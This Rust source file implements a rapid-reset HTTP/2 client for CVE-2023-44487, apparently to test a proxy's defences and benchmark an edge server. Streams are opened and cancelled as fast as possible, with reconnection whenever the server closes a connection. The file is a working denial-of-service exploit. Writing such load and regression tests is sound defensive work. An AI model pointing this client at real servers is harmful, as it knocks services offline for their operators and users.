//! A rapid-reset HTTP/2 client (CVE-2023-44487) on the `h2` crate, used by the HTTP/2 test
//! and the edge bench: streams opened and cancelled as
//! fast as the connection takes them, from a chosen loopback source address.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// Opens up to `n` streams to `proxy` from `from`, resetting each as soon as its HEADERS are
/// out, on a new connection whenever the server closes one, until `n` are sent or `stop` is
/// set; (streams sent, connections used).
pub fn rapid_reset(proxy: SocketAddr, from: &str, n: usize, stop: &AtomicBool) -> (usize, usize) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async move {
        let (mut sent, mut conns) = (0, 0);
        while sent < n && !stop.load(Ordering::Relaxed) {
            conns += 1;
            let sock = tokio::net::TcpSocket::new_v4().unwrap();
            sock.bind(format!("{from}:0").parse().unwrap()).unwrap();
            let Ok(tcp) = sock.connect(proxy).await else {
                continue;
            };
            let Ok((sender, conn)) = h2::client::handshake(tcp).await else {
                continue;
            };
            let conn = tokio::spawn(conn);
            let mut sender = Some(sender);
            while sent < n && !stop.load(Ordering::Relaxed) {
                let Some(Ok(mut ready)) = (match sender.take() {
                    Some(s) => Some(s.ready().await),
                    None => None,
                }) else {
                    break;
                };
                let req = http::Request::get(format!("http://{proxy}/reset"))
                    .body(())
                    .unwrap();
                let Ok((resp, mut stream)) = ready.send_request(req, false) else {
                    break;
                };
                // Lets the connection task write the HEADERS first: reset before that, the h2
                // client drops the stream without a frame.
                tokio::task::yield_now().await;
                stream.send_reset(h2::Reason::CANCEL);
                drop(resp);
                sender = Some(ready);
                sent += 1;
            }
            drop(sender);
            let _ = tokio::time::timeout(Duration::from_secs(5), conn).await;
        }
        (sent, conns)
    })
}
